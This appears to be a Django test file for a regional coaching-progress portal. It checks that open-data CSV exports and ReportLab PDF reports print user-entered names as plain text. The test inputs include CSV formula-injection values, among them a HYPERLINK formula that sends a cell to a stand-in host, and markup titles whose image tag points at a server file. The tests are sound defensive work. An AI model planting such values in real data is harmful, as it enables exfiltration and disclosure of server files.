"""What the portal publishes as files — the open-data CSVs and the report PDF — carries people's text
as text: never a spreadsheet formula, never ReportLab markup (issue 17)."""

from __future__ import annotations

import csv
import io
import tempfile

import pytest
from django.urls import reverse
from PIL import Image

from pembinaan.coaching.models import CoachingType
from pembinaan.progress.models import ReportSnapshot, Target
from pembinaan.progress.selectors import report_figures
from pembinaan.reference.models import Kecamatan
from tests.coaching.factories import funding_source
from tests.funding.factories import BudgetLineFactory
from tests.progress.pdf_text import pdf_text as _pdf_text

pytestmark = pytest.mark.django_db


def _csv(client, part: str) -> list[dict[str, str]]:
    response = client.get(reverse("progress:api-progress-csv", args=[part]))
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def _embeds_an_image(pdf: bytes) -> bool:
    return b"/Subtype /Image" in pdf


@pytest.fixture
def private_photo():
    """A real picture at a short path on the server, as a private upload would be."""
    with tempfile.NamedTemporaryFile(dir="/tmp", prefix="f", suffix=".png") as photo:
        Image.new("RGB", (8, 8), "red").save(photo, format="PNG")
        photo.flush()
        yield photo.name


class TestOpenDataCsv:
    @pytest.mark.parametrize("start", ["=", "+", "-", "@"])
    def test_a_type_name_that_starts_like_a_formula_comes_out_as_text(self, anon_client, start):
        kind = CoachingType.objects.get(code="pelatihan")
        kind.name = f'{start}HYPERLINK("http://contoh.test/?x="&A1,"Pelatihan")'
        kind.save()
        row = next(r for r in _csv(anon_client, "jenis") if r["code"] == "pelatihan")
        assert row["name"] == "'" + kind.name

    def test_ordinary_names_are_unchanged_and_numbers_stay_numbers(self, anon_client):
        BudgetLineFactory(source=funding_source("apbd-kota"), fiscal_year=2024, amount=750_000_000)
        rows = _csv(anon_client, "sumber")
        kota = next(r for r in rows if r["code"] == "apbd-kota")
        assert kota["name"] == "APBD Kota"
        assert (kota["coached"], kota["budget"], kota["realized"]) == ("0", "750000000", "0")
        years = _csv(anon_client, "tahun")
        assert years and all(r["year"].isdigit() and r["coached_new"].isdigit() for r in years)

    def test_a_kecamatan_name_is_neutralised_like_any_other_text_column(self, anon_client):
        kecamatan = Kecamatan.objects.order_by("code").first()
        kecamatan.name = "@SUM(1+1)"
        kecamatan.save()
        row = next(r for r in _csv(anon_client, "kecamatan") if r["code"] == kecamatan.code)
        assert row["name"] == "'@SUM(1+1)"


class TestReportPdf:
    def test_a_frozen_report_whose_title_looks_like_markup_prints_the_title_as_typed(
        self, admin_client, private_photo
    ):
        title = f'Laporan <b>Semester I & II <img src="{private_photo}" width="40" height="40"/>'
        admin_client.post(reverse("progress:snapshot-create"), {"title": title})
        snapshot = ReportSnapshot.objects.get()
        assert snapshot.title == title

        response = admin_client.get(reverse("progress:report-pdf"), {"arsip": snapshot.pk})

        assert response.status_code == 200
        assert response.content.startswith(b"%PDF-")
        assert title in _pdf_text(response.content)
        assert not _embeds_an_image(response.content)

    def test_an_image_tag_in_a_title_never_draws_a_file_of_the_server_into_the_pdf(
        self, admin_client, private_photo
    ):
        title = f'Laporan Tahunan <img src="{private_photo}" width="40" height="40"/>'
        target = Target.primary()
        snapshot = ReportSnapshot.objects.create(target=target, title=title, figures=report_figures(target))

        response = admin_client.get(reverse("progress:report-pdf"), {"arsip": snapshot.pk})

        assert response.status_code == 200
        assert not _embeds_an_image(response.content)
        assert title in _pdf_text(response.content)

    def test_a_target_name_with_markup_prints_as_typed_in_the_live_report(self, viewer_client, private_photo):
        target = Target.primary()
        target.name = f'Target <i>RPJMD & Renstra <img src="{private_photo}"/>'
        target.save()

        response = viewer_client.get(reverse("progress:report-pdf"))

        assert response.status_code == 200
        assert response.content.startswith(b"%PDF-")
        assert target.name in _pdf_text(response.content)
        assert not _embeds_an_image(response.content)

    def test_a_type_name_with_markup_prints_as_typed_in_the_tables(self, viewer_client):
        kind = CoachingType.objects.get(code="kemasan")
        kind.name = "Kemasan <b>& Label"
        kind.save()

        response = viewer_client.get(reverse("progress:report-pdf"))

        assert response.status_code == 200
        assert "Kemasan <b>& Label" in _pdf_text(response.content)
